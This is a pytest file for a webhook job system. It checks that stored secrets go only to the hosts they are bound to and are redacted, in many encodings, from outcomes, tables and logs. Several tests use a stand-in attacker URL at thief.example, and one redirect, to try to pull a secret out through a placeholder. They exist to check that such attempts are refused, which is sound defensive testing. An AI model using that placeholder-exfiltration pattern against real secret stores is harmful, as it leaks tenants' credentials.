"""A secret goes to the hosts it is bound to, and its value stays nowhere else: not in a record, a log or an answer.

Each attack has its control: the same attack on a secret for any host, or past the hiding, gets the value.
"""

import asyncio
import base64
import html
import json
import logging
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote, unquote

import pytest
from aiohttp import web
from django.db import connection
from yarl import URL

from jobs.engine.worker.process import THIS
from jobs.handlers import AsyncRunner
from jobs.handlers.egress import EgressRules
from jobs.handlers.outcome import Outcome
from jobs.handlers.placeholders import MAX_NAMES, hide, may_be_sent
from tenants.models import Tenant
from tenants.vault.secrets import put_secret
from tests.engine.conftest import Perform
from tests.factories import attempts, make_job, make_tenant, make_trigger, state_of
from tests.handlers.conftest import LOOPBACK, Receiver
from tests.interfaces.api.caller import Caller, faulty_fields, noop_job

#: As webhooks.md advises for URLs: percent-encoded, with sequences that a client decodes and others that it does not.
CANARY = "SEKRET1%41bpCmYnVL%21%2FznsecIpbg"
LONG = "SEKRET2" + "".join(chr(48 + n % 75) for n in range(0, 3000, 7)) * 8


def a_webhook(url: str, **changes: Any) -> dict[str, Any]:
    return noop_job(job_type="webhook", payload={"url": url}) | changes


@pytest.mark.django_db
class TestASecretSentElsewhere:
    """A caller that may write jobs could read every secret, by a placeholder in a request to a server of its own."""

    THIEF = "https://thief.example/?{{secret:token}}"

    @pytest.fixture
    def caller(self, job_types: None) -> Caller:
        tenant = make_tenant()
        put_secret(tenant=tenant, name="token", value=CANARY, hosts=["api.example", "*.ours.example"])
        put_secret(tenant=tenant, name="anywhere", value=CANARY, hosts=["*"])
        return Caller(tenant)

    def test_is_refused_wherever_a_request_is_written(self, caller: Caller) -> None:
        job = caller.post("/jobs", a_webhook("https://api.example/{{secret:token}}")).json()
        to_thief = {"payload": {"url": self.THIEF}}
        headers = {"url": "https://thief.example/", "headers": {"A": "{{secret:token}}"}}
        notify = {"on": ["dead"], "url": self.THIEF}
        for answer, field in (
            (caller.post("/jobs", a_webhook(self.THIEF, name="b")), "payload.url"),
            (caller.post("/jobs", a_webhook("", name="b", payload=headers)), "payload.headers.A"),
            (caller.patch(f"/jobs/{job['id']}", to_thief), "payload.url"),
            (caller.post(f"/jobs/{job['id']}/run", to_thief), "payload.url"),
            (caller.post("/jobs", noop_job(name="c", notify=notify)), "notify.url"),
            (caller.put("/tenant/notify", notify), "url"),
        ):
            assert faulty_fields(answer) == {field}
            assert "api.example, *.ours.example" in answer.content.decode()
        # The control: the same request goes through with a secret for any host.
        theirs = self.THIEF.replace("token", "anywhere")
        assert caller.post("/jobs", a_webhook(theirs, name="b")).status_code == 201

    def test_comes_with_few_others(self, caller: Caller) -> None:
        """Hiding each secret costs memory and time of the worker, which other tenants share."""
        for number in range(MAX_NAMES):
            put_secret(tenant=caller.tenant, name=f"s{number}", value=CANARY, hosts=["*"])

        def naming(names: list[str]) -> dict[str, Any]:
            return {
                "url": "https://api.example/",
                "headers": {"A": "".join(f"{{{{secret:{n}}}}}" for n in names)},
            }

        names = [f"s{number}" for number in range(MAX_NAMES)]
        answer = caller.post("/jobs", a_webhook("", payload=naming([*names, "token"])))
        assert faulty_fields(answer) == {"payload.headers.A"}
        assert f"At most {MAX_NAMES} secrets" in answer.content.decode()
        assert caller.post("/jobs", a_webhook("", payload=naming(names * 2))).status_code == 201

    def test_cannot_be_had_by_binding_it_anew_without_its_value(self, caller: Caller) -> None:
        answer = caller.put("/secrets/token", {"hosts": ["thief.example"]})
        assert faulty_fields(answer) == {"value"}
        assert caller.put("/secrets/token", {"value": "another value"}).json()["hosts"][0] == "api.example"
        bound = caller.put("/secrets/token", {"value": CANARY, "hosts": ["api2.example"]}).json()
        assert bound["hosts"] == ["api2.example"]

    @pytest.mark.parametrize(
        "hosts",
        [None, [], "api.example", ["API.example"], ["a b"], ["https://a"], ["*.*"], ["a*"], [1], ["a"] * 21],
    )
    def test_is_not_kept_without_saying_where_it_may_go(self, caller: Caller, hosts: Any) -> None:
        body = {"value": CANARY} | ({} if hosts is None else {"hosts": hosts})
        # A host that is not even a text is named by its place.
        field = "hosts[0]" if hosts == [1] else "hosts"
        assert faulty_fields(caller.put("/secrets/new", body)) == {field}
        assert caller.get("/secrets/new").status_code == 404

    @pytest.mark.parametrize(
        ("host", "goes", "stays"),
        [
            (
                "a.example",
                ["a.example"],
                ["a.example:8443", "b.a.example", "xa.example", "a.example.evil", ""],
            ),
            ("a.example:8443", ["a.example:8443"], ["a.example", "a.example:443"]),
            ("*.a.example", ["b.a.example", "c.b.a.example"], ["a.example", "xa.example", "b.a.example:81"]),
            ("[2001:db8::1]:8443", ["2001:db8::1:8443"], ["2001:db8::1"]),
            ("*", ["a.example", "127.0.0.1:99"], []),
        ],
    )
    def test_is_judged_by_the_whole_host_and_its_port(
        self, host: str, goes: list[str], stays: list[str]
    ) -> None:
        assert [may_be_sent(target, hosts=["z.example", host]) for target in goes] == [True] * len(goes)
        assert [may_be_sent(target, hosts=["z.example", host]) for target in stays] == [False] * len(stays)


@pytest.fixture
def outbound(perform: Perform, monkeypatch: pytest.MonkeyPatch) -> Iterator[Perform]:
    """``perform`` with webhooks let out to loopback."""
    runner = AsyncRunner(rules=EgressRules(allow_networks=LOOPBACK))
    monkeypatch.setattr(THIS, "runner", runner)
    yield perform
    runner.close()


def forms_of(value: str) -> dict[str, str]:
    """Every encoding in which a target, a proxy or a client may show a value, by its name."""
    plain = unquote(value)
    raw = value.encode()
    return {
        "as it is": value,
        "decoded": plain,
        "percent-encoded": quote(value, safe=""),
        "decoded and percent-encoded": quote(plain, safe=""),
        "in lower case": quote(plain, safe="").replace("%2F", "%2f").replace("%21", "%21"),
        "every byte percent-encoded": "".join(f"%{byte:02x}" for byte in raw),
        "as yarl sends it": str(URL(f"http://h/{value}")).removeprefix("http://h/"),
        "as yarl sends it in a query": str(URL(f"http://h/?a={value}")).removeprefix("http://h/?a="),
        "as yarl shows it": URL(f"http://h/{value}").human_repr().removeprefix("http://h/"),
        "json": json.dumps(f'"{value}')[2:-1],
        "html": html.escape(plain),
        "repr": repr(raw),
        "base64": base64.b64encode(raw).decode(),
        "base64 for URLs": base64.urlsafe_b64encode(plain.encode()).decode(),
        "behind a user's name": base64.b64encode(b"user:" + raw).decode(),
        "behind another's": base64.b64encode(b"use:" + raw + b":x").decode(),
        "hex": raw.hex(),
        "its first half": value[: len(value) // 2],
        "its last half": value[len(value) // 2 :],
        "the first half of what yarl sends": str(URL(f"http://h/{value}")).removeprefix("http://h/")[:16],
    }


class TestAnEchoedSecret:
    @pytest.mark.parametrize("form", forms_of(CANARY))
    def test_is_hidden_in_every_form(self, form: str) -> None:
        shown = forms_of(CANARY)[form]
        told = Outcome(
            "failed",
            error_message=f"400, message='Chunk size overflow', url='http://h/bad/{shown}'",
            traceback=f"line 1\n{shown}",
            response_excerpt=json.dumps({"echo": shown}),
            result=[shown, {shown: 1}],
        )
        assert str(told).count(shown[:9]) >= 4, "the control: it is there before it is hidden"
        hidden = str(hide(told, {"v": CANARY}))
        assert hidden.count("{{secret:v}}") >= 4
        for at in range(
            len(shown) - 9
        ):  # no nine characters of it stay, except where base64 has others around it
            if not form.startswith("behind") or 8 <= at <= len(shown) - 18:
                assert shown[at : at + 9] not in hidden

    def test_that_its_holder_encoded_is_hidden_as_the_target_reads_it(self) -> None:
        value = base64.b64encode(b"user:the-pass-word").decode()
        hidden = hide(Outcome("failed", response_excerpt="hello user:the-pass-word"), {"v": value})
        assert hidden.response_excerpt == "hello {{secret:v}}"

    def test_leaves_alone_what_is_not_it(self) -> None:
        text = f"The target answered 503 at https://api.example/ {CANARY[:6]} {CANARY[::-1]}"
        assert hide(Outcome("failed", error_message=text), {"v": CANARY}).error_message == text


@pytest.mark.django_db(transaction=True)
class TestASecretOnTheWire:
    @pytest.fixture
    def tenant(self, receiver: Receiver) -> Tenant:
        tenant = make_tenant()
        for name, value in (("token", CANARY), ("long", LONG)):
            put_secret(tenant=tenant, name=name, value=value, hosts=[f"127.0.0.1:{receiver.port}"])
        return tenant

    def test_does_not_leave_for_another_host_whatever_older_jobs_say(
        self, tenant: Tenant, outbound: Perform, receiver: Receiver
    ) -> None:
        def fire(host: str) -> Any:
            payload = {"url": receiver.url("/{{secret:token}}", host=host)}
            trigger = make_trigger(make_job(tenant, job_type="webhook", payload=payload), "queued")
            outbound(trigger)
            return trigger

        trigger = fire("127.0.0.2")
        assert state_of(trigger) == ("dead", "permanent")
        [attempt] = attempts(trigger)
        assert attempt.error_code == "secret_host"
        assert f"127.0.0.2:{receiver.port}" in attempt.error_message
        assert not receiver.requests
        assert state_of(fire("127.0.0.1"))[0] == "succeeded"

    def test_leaves_nothing_in_any_table_or_log_whatever_the_target_does(
        self, tenant: Tenant, outbound: Perform, receiver: Receiver, caplog: pytest.LogCaptureFixture
    ) -> None:
        caplog.set_level(logging.DEBUG)
        seen: list[str] = []

        async def echo(request: web.Request) -> web.Response:
            seen.append(f"{request.raw_path} {request.path} {request.headers['Authorization']}")
            return web.Response(
                status=400, text=f"{seen[-1]} {quote(seen[-1])} {base64.b64encode(seen[-1].encode())}"
            )

        async def malformed(request: web.Request) -> web.StreamResponse:
            return await answer(request, b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nZZ\r\n")

        async def long_header(request: web.Request) -> web.StreamResponse:
            token = request.headers["Authorization"].encode()
            return await answer(request, b"HTTP/1.1 200 OK\r\nX-Echo: " + token * 4 + b"\r\n\r\n")

        async def redirect(request: web.Request) -> web.Response:
            return web.Response(status=302, headers={"Location": f"http://thief.example{request.raw_path}"})

        async def answer(request: web.Request, raw: bytes) -> web.StreamResponse:
            assert request.transport
            request.transport.write(raw)
            await asyncio.sleep(0.05)
            request.transport.close()
            return web.Response()

        behaviours = {"echo": echo, "malformed": malformed, "long": long_header, "redirect": redirect}

        async def behave(request: web.Request) -> web.StreamResponse:
            return await behaviours[request.path.split("/")[1]](request)

        receiver.answers = AnyPath(behave)
        triggers = [
            make_trigger(
                make_job(
                    tenant,
                    job_type="webhook",
                    payload={
                        "url": receiver.url(f"/{name}/{{{{secret:token}}}}?k={{{{secret:token}}}}"),
                        "headers": {"Authorization": "Bearer {{secret:long}}"},
                    },
                ),
                "queued",
            )
            for name in behaviours
        ]
        outbound(*triggers)
        codes = {attempts(trigger)[0].error_code for trigger in triggers}
        assert {"http_400", "bad_response", "redirect"} <= codes
        assert LONG[:40] in seen[0], "the control: the target was sent it, and sent it back"
        stored = everything_stored()
        assert str(triggers[0].id) in stored
        logged = "\n".join(
            str(record.__dict__) for record in caplog.records if record.name != "aiohttp.access"
        )
        for value in (CANARY, LONG):
            for form, shown in forms_of(value).items():
                if not form.startswith("behind"):
                    assert shown[:12] not in stored, form
                    assert shown[:12] not in logged, form


class AnyPath(dict[str, Any]):
    """One answer for every path of a ``Receiver``."""

    def __init__(self, answer: Any) -> None:
        self._answer = answer

    def get(self, path: str, default: Any = None) -> Any:
        return self._answer


def everything_stored() -> str:
    """Every row of every table, as text."""
    with connection.cursor() as cursor:
        cursor.execute(
            "SELECT relname FROM pg_class WHERE relkind = 'r' AND relnamespace = 'public'::regnamespace"
        )
        tables = [name for (name,) in cursor.fetchall()]
        texts = []
        for table in tables:
            cursor.execute(f'SELECT t::text FROM "{table}" t')
            texts += [text for (text,) in cursor.fetchall()]
    return "\n".join(texts)
